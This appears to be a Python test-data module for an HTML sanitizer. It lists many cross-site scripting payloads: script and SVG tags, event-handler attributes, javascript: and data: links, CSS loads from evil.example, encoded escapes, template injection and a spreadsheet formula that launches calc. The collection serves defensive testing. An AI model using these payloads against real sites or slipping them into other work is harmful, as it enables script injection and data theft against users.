"""Texts that want to run: each would call `alert`, load from evil.example or style the page. None may."""

TAGS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<<script>script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script >alert(1)</script >
<script/x>alert(1)</script>
<script>alert(1)
<script src=data:,alert(1)></script>
<script src=//evil.example/x></script>
<script type=module>alert(1)</script>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg/onload=alert(1)
<svg onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x"/></svg>
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><style>@import url(//evil.example/x.css)</style></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src=x:x onerror\x0b=alert(1)>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<img src="javascript:alert(1)">
<img srcset="x 1x, https://evil.example/x 2x" onerror=alert(1)>
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<img src="https://evil.example/pixel.gif">
<image src=x onerror=alert(1)>
<picture><source srcset=x onerror=alert(1)><img onerror=alert(1) src=x></picture>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<iframe src=//evil.example></iframe>
<frameset onload=alert(1)></frameset>
<frame src=javascript:alert(1)>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="javascript:alert(1)">
<base href="javascript:alert(1)//">
<base href="https://evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href=//evil.example/x>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=Set-Cookie content="a=b">
<meta charset=utf-7>
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/x)}</style>
<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x
<style><img src="</style><img src=x onerror=alert(1)//">
<style><!--</style><script>alert(1)//--></script>
<form action="javascript:alert(1)"><button>x</button></form>
<form action=//evil.example><input name=x><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<isindex type=image src=1 onerror=alert(1)>
<isindex action=javascript:alert(1) type=image>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<button onclick=alert(1) autofocus>x</button>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video src=https://evil.example/x.mp4 autoplay></video>
<audio src=x onerror=alert(1)></audio>
<audio onloadstart=alert(1) src=x>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<marquee behavior=alternate onbounce=alert(1)>x</marquee>
<bgsound src=javascript:alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<body onhashchange=alert(1)><a href=#x>x</a>
<html onmouseover=alert(1)>
<table background="javascript:alert(1)"><tr><td>x</table>
<td background="javascript:alert(1)">x</td>
<layer src="javascript:alert(1)"></layer>
<ilayer src="javascript:alert(1)"></ilayer>
<xml id=x><i><b><img src="javas<!-- -->cript:alert(1)"></b></i></xml><span datasrc=#x datafld=b></span>
<xss id=x tabindex=1 onactivate=alert(1)></xss>
<xss style="xss:expression(alert(1))">
<custom-element onpointerenter=alert(1)>x</custom-element>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>
<plaintext><script>alert(1)</script>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<title><img title="</title><img src onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<slot onslotchange=alert(1)></slot>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<portal src=javascript:alert(1)></portal>
<listing>&lt;img onerror=alert(1) src=x&gt;</listing>
<comment><img src="</comment><img src=x onerror=alert(1)//">
<!--<img src="--><img src=x onerror=alert(1)//">
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<![><img src="]><img src=x onerror=alert(1)//">
<? foo="><script>alert(1)</script>">
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<% foo><x foo="%><script>alert(1)</script>">
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<!ENTITY x SYSTEM "https://evil.example/x">
"""

ATTRIBUTES = r"""
<p onclick=alert(1)>x</p>
<p ONCLICK=alert(1)>x</p>
<p\nonmouseover=alert(1)//
<p/onmouseover=alert(1)>x</p>
<p onmouseover\t=\talert(1)>x</p>
<p onmouseover=&#97;lert(1)>x</p>
<p onfocus=alert(1) tabindex=1 id=x>x</p>
<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</p>
<p onanimationstart=alert(1) style=animation:x>x</p>
<p ontransitionend=alert(1)>x</p>
<p onpointerover=alert(1)>x</p>
<p onbeforematch=alert(1) hidden=until-found>x</p>
<p onscrollend=alert(1)>x</p>
<p oncopy=alert(1)>x</p>
<p ondrag=alert(1) draggable=true>x</p>
<p onwheel=alert(1)>x</p>
<p contenteditable onpaste=alert(1)>x</p>
<p accesskey=x onclick=alert(1)>x</p>
<p id=getElementById name=cookie>x</p>
<p is=x-evil>x</p>
<p slot=x part=y>x</p>
<p data-url=javascript:alert(1)>x</p>
<p xmlns:x=x x:onclick=alert(1)>x</p>
<p class="x" onclick="alert(1)" class="y">x</p>
<p title="x" onmouseover="alert(1)">x</p>
<p title='x' onmouseover='alert(1)'>x</p>
<p title=`x` onmouseover=`alert(1)`>x</p>
<p title="</p><script>alert(1)</script>">x</p>
<p lang='x"onclick="alert(1)'>x</p>
<p dir="x&quot; onclick=&quot;alert(1)">x</p>
<p class='"><img src=x onerror=alert(1)>'>x</p>
<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>
<p style="background:url(javascript:alert(1))">x</p>
<p style="background-image:url(//evil.example/x)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(#default#time2)">x</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<p style="color:red;/*">x</p>
<p style="text-align:center;}*{background:url(//evil.example/x)">x</p>
<p style="text-align:center\;background:url(//evil.example)">x</p>
<p style="color:\75rl(//evil.example/x)">x</p>
<p style="text-align:u\72l(//evil.example/x)">x</p>
<p style="color:var(--x,url(//evil.example/x))">x</p>
<p style="font-family:'x';background:url(//evil.example/x)">x</p>
<p style="font-family:x&#34;;background:url(//evil.example/x)">x</p>
<p style="content:attr(title);display:none">x</p>
<p style="@import//evil.example/x.css">x</p>
<p style="filter:url(//evil.example/x#y)">x</p>
<p style="cursor:url(//evil.example/x),auto">x</p>
<p style="list-style:url(//evil.example/x)">x</p>
<p style="mask:url(//evil.example/x)">x</p>
<p style="src:url(//evil.example/x)">x</p>
<p style="color:image-set('//evil.example/x' 1x)">x</p>
<p style="text-align:center<!--">x</p>
"""

LINKS = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java\tscript:alert(1)
java\rscript:alert(1)
\x01javascript:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#106;avascript:alert(1)
&#x6A;avascript:alert(1)
&#0000106avascript:alert(1)
jav&Tab;ascript:alert(1)
jav&NewLine;ascript:alert(1)
javascript:alert(1)//https://x.example
javascript:/*https://x.example*/alert(1)
javascript://https://x.example/%0aalert(1)
vbscript:msgbox(1)
livescript:alert(1)
mocha:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
DATA:text/html,x
blob:https://x.example/1
filesystem:https://x.example/1
file:///etc/passwd
about:blank
view-source:javascript:alert(1)
feed:javascript:alert(1)
jar:https://evil.example/x!/
intent:x#Intent;scheme=javascript;end
ms-its:x
tel:1;x=javascript:alert(1)
//evil.example/x
/\evil.example/x
\\evil.example\x
/\t/evil.example
///evil.example
https:evil.example
https:\\evil.example
../../logout/
/cms/logout/
#javascript:alert(1)
?next=//evil.example
"""

ESCAPES = r"""
" onmouseover="alert(1)
' onmouseover='alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
</script><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
{{constructor.constructor('alert(1)')()}}
${alert(1)}
{% include "x" %}
`${alert(1)}`
';alert(1)//
";alert(1)//
\';alert(1)//
\";alert(1)//
a<b onclick=alert(1)
=cmd|'/c calc'!A1
"""


SIGNS = {"\\n": "\n", "\\t": "\t", "\\r": "\r", "\\x0b": "\x0b", "\\x01": "\x01"}


def lines(block: str) -> list[str]:
    r"""A line each; what is written \t in one is a tab."""
    found = block.strip("\n").splitlines()
    for written, meant in SIGNS.items():
        found = [line.replace(written, meant) for line in found]
    return found


LINKED = [f'<a href="{address}">x</a>' for address in lines(LINKS)]
PAYLOADS = [*lines(TAGS), *lines(ATTRIBUTES), *LINKED, *lines(ESCAPES)]
